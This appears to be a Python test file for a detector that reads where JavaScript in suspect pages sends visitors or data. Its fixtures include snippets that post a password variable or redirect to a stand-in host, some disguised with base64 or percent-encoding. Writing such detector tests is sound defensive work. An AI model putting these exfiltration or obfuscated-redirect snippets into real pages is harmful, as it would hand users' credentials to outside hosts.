"""Where scripts lead, as far as it can be read without running them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trapline.reporter.evidence.scripts import opened, written

SCRIPTS = {
    "a location": "window.location = 'http://pills.com/x';",
    "a location's part": 'document.location.href="http://pills.com/x"',
    "a call": "location.replace(`http://pills.com/x`)",
    "a form's action": "document.forms[0].action = 'http://pills.com/x'",
    "a call that posts": "$.post('http://pills.com/x', {p: pw})",
    "a request": 'var x = new XMLHttpRequest(); x.open("POST", "http://pills.com/x", true);',
    "a request of jQuery's": "$.ajax({type: 'POST', data: {p: pw}, url: 'http://pills.com/x'})",
    "a request of jQuery's, the address first": '$.ajax({\n  url: "http://pills.com/x",\n  type: "POST"})',
    "what is fetched": "fetch('http://pills.com/x', { headers: {}, method: 'POST', body: JSON.stringify(d) })",
    "escaped slashes": r"location.href = 'http:\/\/pills.com\/x'",
    "base64": "location.href = atob('aHR0cDovL3BpbGxzLmNvbS94')",
    "percents": "location.href = decodeURIComponent('http%3A%2F%2Fpills.com%2Fx')",
}


@pytest.mark.parametrize("form", SCRIPTS)
def test_the_address_is_read_in_the_form_of(form: str) -> None:
    assert list(opened(SCRIPTS[form])) == ["http://pills.com/x"]


@pytest.mark.parametrize(
    "script",
    [
        "fetch('https://api.geo.com/json').then(r => r.json())",
        "fetch('https://api.geo.com/json', { method: 'GET' })",
        "x.open('GET', 'https://api.geo.com/json')",
        "$.get('https://api.geo.com/json', f); $.getJSON('https://api.geo.com/json')",
        "$.ajax({url: 'https://api.geo.com/json', success: f})",
    ],
)
def test_an_address_that_is_only_asked_is_left_aside(script: str) -> None:
    assert list(opened(script)) == []


def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
    assert list(opened("import 'https://cdn.other.com/jquery.js'; var doc = 'http://www.w3.org/1999/xhtml'")) == []


@pytest.mark.parametrize("script", ["document.write(unescape('%3Cp%3Ex'))", "document.write(atob('PHA+eHg='))"])
def test_a_page_that_is_written_is_read(script: str) -> None:
    (page,) = written(script)
    assert page.startswith("<p>x")


@given(
    st.lists(
        st.sampled_from(
            [
                "location",
                "=",
                "'",
                "atob(",
                "aHR0c",
                "%",
                "http%3A%2F%2F",
                "unescape('",
                "//",
                "<",
                ".ajax({",
                "fetch(",
                "url:",
            ]
        )
    )
)
def test_no_script_makes_it_raise(pieces: list[str]) -> None:
    script = "".join(pieces)
    assert len([*opened(script), *written(script)]) <= 1_000
